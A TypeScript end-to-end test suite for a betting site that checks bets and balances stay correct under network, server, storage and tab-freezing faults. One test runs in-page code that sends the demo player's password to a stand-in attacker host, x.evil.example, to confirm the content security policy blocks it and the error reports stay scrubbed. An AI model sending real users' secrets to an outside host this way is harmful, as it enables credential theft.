import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { truncateAmount } from '#engine/money';
import { testBrands } from '#cli/test/brands.ts';
import { aPlayer, DEMO_PLAYER } from '#app/test/player.ts';
import { startSite, type OpenPage, type Site } from '#app/test/site.ts';

/** Every attempt of one press: the first and its three repeats. */
const ALL_ATTEMPTS = [1, 4] as const;
const HOUR_S = 3_600;
const MILLIONTHS = 1_000_000;
const SLOW_3G = { offline: false, latency: 400, downloadThroughput: 50_000, uploadThroughput: 50_000 };

/** Days on which everything around the page is broken. In the end the balance and the bets are true, and what was typed is there. */
describe('bad days', () => {
  const brands = testBrands();
  const dataDir = mkdtempSync(path.join(tmpdir(), 'slipway-faults-'));
  let site: Site;
  let opened: OpenPage;

  beforeAll(async () => {
    brands.edit(
      'harborlight',
      '"storageSecret"',
      '"errorReports": { "to": "/__sim/reports", "webVitals": true, "consent": false }, "storageSecret"',
    );
    site = await startSite('harborlight', { brands: brands.root, dataDir });
  });
  afterEach(async () => {
    site.simulator.world().faults.clear();
    await opened.context.close();
  });
  afterAll(async () => {
    brands.remove();
    await site.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  /** Each test bets another stake, so that its bets are known by it. */
  const betsOf = (stake: string) =>
    site.simulator
      .world()
      .db.all('SELECT id FROM bet WHERE amount = ?', Number(stake) * MILLIONTHS)
      .map(({ id }) => String(id));
  /** What each of them is on. */
  const picksOf = (stake: string) =>
    betsOf(stake).map((id) =>
      site.simulator
        .world()
        .bets.byId(id)
        ?.doc.slip.matches.flatMap((match) =>
          match.picks.map(({ market, outcome }) => `${match.id} ${market} ${outcome}`),
        ),
    );
  const owned = () => truncateAmount(site.simulator.world().balance(DEMO_PLAYER.id), 2);
  async function ready(stake: string, before?: (page: Page) => Promise<unknown>) {
    opened = await site.openSignedIn('desktop', '/sport/soccer', before === undefined ? {} : { before });
    const player = aPlayer(opened.page, 'desktop');
    const match = await player.pick(1);
    await player.stake(stake);
    await button(stake).waitFor();
    return { ...player, /** What is bet on. */ pick: `${match} wl w` };
  }
  const button = (stake: string) =>
    aPlayer(opened.page, 'desktop')
      .slip()
      .getByRole('button', { name: `Place bet for ${stake}.00 USDT` });
  const shows = (text: string) => aPlayer(opened.page, 'desktop').slip().getByText(text).waitFor();
  /** The bet shown, once the balance is that of the ledger: to compare with `betsOf`. */
  async function placed() {
    const receipt = await aPlayer(opened.page, 'desktop').receipt().textContent();
    await balanceIsTrue();
    return [receipt];
  }
  async function balanceIsTrue() {
    const shown = aPlayer(opened.page, 'desktop').balance();
    await expect.poll(async () => (await shown.textContent())?.replaceAll(',', '')).toBe(owned());
  }

  it('offline at the press: said at once that nothing was sent; pressed again, there is one bet', async () => {
    const player = await ready('3');
    await opened.context.setOffline(true);
    await player.place();
    await shows('Nothing was sent. No connection to the server. Check your connection and try again.');
    await button('3').click({ trial: true });
    await opened.context.setOffline(false);
    expect(betsOf('3')).toEqual([]);
    expect(await player.slip().getByLabel('Stake per line').inputValue()).toBe('3');
    await balanceIsTrue();
    await player.place();
    expect(await placed()).toEqual(betsOf('3'));
    expect(opened.faults).toEqual([]);
  });

  it('every answer is lost: said to be checked, and nothing can be pressed; after a reload it is found, not sent again', async () => {
    const player = await ready('10');
    await site.control('faults', { row: 'placeBet', nth: ALL_ATTEMPTS, do: 'resetAfterCommit' });
    await site.control('faults', { id: 'no-answer', row: 'getOutcome', do: 'statusBeforeCommit', status: 503 });
    await player.place();
    await shows('We are checking this bet.');
    expect(
      await player
        .slip()
        .getByRole('button', { name: /Place bet/ })
        .isDisabled(),
    ).toBe(true);
    await opened.page.reload();
    await shows('We are checking this bet.');
    site.simulator.world().faults.clear();
    expect(await placed()).toEqual(betsOf('10'));
    expect(picksOf('10')).toEqual([[player.pick]]);
  });

  it('slow 3G: a bet pressed twice over it is one bet', async () => {
    await ready('4');
    const session = await opened.context.newCDPSession(opened.page);
    await session.send('Network.emulateNetworkConditions', SLOW_3G);
    await button('4').dblclick();
    expect(await placed()).toEqual(betsOf('4'));
  });

  it('the server is restarted before it has answered: the bet is found again, and the page goes on', async () => {
    const player = await ready('5');
    await site.control('faults', { row: 'placeBet', nth: ALL_ATTEMPTS, do: 'hangAfterCommit' });
    await player.place();
    await expect.poll(() => picksOf('5')).toEqual([[player.pick]]);
    await site.restart();
    site.simulator.world().faults.clear();
    expect(await placed()).toEqual(betsOf('5'));
    await expect.poll(() => site.simulator.world().ledger.audit()).toEqual([]);
  });

  it('the socket is dead: said so, a bet is placed all the same, and the balance is asked for', async () => {
    const player = await ready('6', (page) => page.clock.install());
    await site.control('faults', { do: 'socketRefuse' });
    await site.restart();
    await opened.page.clock.runFor(2_000);
    await opened.page.getByRole('button', { name: /The balance may be out of date/ }).waitFor();
    await player.place();
    expect(await placed()).toEqual(betsOf('6'));
    await site.control(`members/${DEMO_PLAYER.id}`, { adjust: '25' });
    await opened.page.clock.runFor(61_000);
    await balanceIsTrue();
  });

  it('storage is full: nothing is sent and the player reads why; with room again there is one bet, also after a reload', async () => {
    const player = await ready('8');
    await opened.page.evaluate(() => {
      for (let size = 1 << 20; size >= 1; size >>= 1)
        try {
          for (let part = 0; ; part += 1) localStorage.setItem(`full-${size}-${part}`, 'x'.repeat(size));
        } catch {
          // Full for this size; the next is half of it.
        }
    });
    await player.place();
    await shows('Nothing was sent.');
    expect(betsOf('8')).toEqual([]);
    await opened.page.evaluate(() => {
      for (const name of Object.keys(localStorage)) if (name.startsWith('full-')) localStorage.removeItem(name);
    });
    await site.control('faults', { row: 'placeBet', nth: 1, do: 'resetAfterCommit' });
    await player.place();
    expect(await placed()).toEqual(betsOf('8'));
    await opened.page.reload();
    await balanceIsTrue();
    await opened.page.goto(`${site.url}/my-bets`);
    await opened.page.getByRole('link', { name: `Details of bet ${betsOf('8')[0]}` }).waitFor();
    expect(opened.faults).toEqual([]);
  });

  it('a tab frozen for an hour: what was typed is there, the balance is of now, and a bet can be placed', async () => {
    const player = await ready('9', (page) => page.clock.install());
    const session = await opened.context.newCDPSession(opened.page);
    await session.send('Page.setWebLifecycleState', { state: 'frozen' });
    await site.control(`members/${DEMO_PLAYER.id}`, { adjust: '11' });
    await site.control('clock', { advance: HOUR_S });
    await session.send('Page.setWebLifecycleState', { state: 'active' });
    await opened.page.clock.fastForward(HOUR_S * 1_000);
    await balanceIsTrue();
    expect(await player.slip().getByLabel('Stake per line').inputValue()).toBe('9');
    const moved = player.slip().getByRole('button', { name: 'Accept new odds' });
    await expect.poll(async () => (await moved.count()) > 0 || (await button('9').isEnabled())).toBe(true);
    if ((await moved.count()) > 0) await moved.click();
    await button('9').click();
    expect(await placed()).toEqual(betsOf('9'));
  });

  it('faults of the page are sent to the collector, without data of the player or the upstream', async () => {
    const player = await ready('13');
    const { page } = opened;
    await site.control('faults', { row: 'placeBet', nth: ALL_ATTEMPTS, do: 'resetAfterCommit' });
    await player.place();
    expect(await placed()).toEqual(betsOf('13'));
    await page.evaluate((secret) => {
      setTimeout(() => {
        throw new TypeError(`Cannot read properties of undefined (reading '${secret}')`);
      });
      void Promise.reject(new Error(secret));
      void fetch(`https://x.evil.example/?${secret}`).catch(() => undefined);
    }, DEMO_PLAYER.password);
    // The browser reports a rejection later than what is thrown, and not at all for a page that was left.
    await expect.poll(() => opened.faults).toContain(DEMO_PLAYER.password);
    await expect.poll(() => opened.faults).toContainEqual(expect.stringContaining('Cannot read properties'));
    await page.goto('about:blank');
    const kept = async () => (await fetch(`${site.simulator.url}/__sim/reports`)).text();
    // The days before have left reports of their own.
    for (const part of [
      '"kind":"error","name":"TypeError","says":"Cannot read properties of undefined"',
      '"kind":"rejection","name":"Error","says":"(withheld)"',
      '"directive":"connect-src","blocked":"evil.example"',
      '"row":"placeBet"',
      '"name":"LCP"',
    ])
      await expect.poll(kept).toContain(part);
    const text = await kept();
    for (const secret of [DEMO_PLAYER.password, DEMO_PLAYER.email, DEMO_PLAYER.id, betsOf('13')[0] ?? '-', 'sim.'])
      expect(text).not.toContain(secret);
  });
});
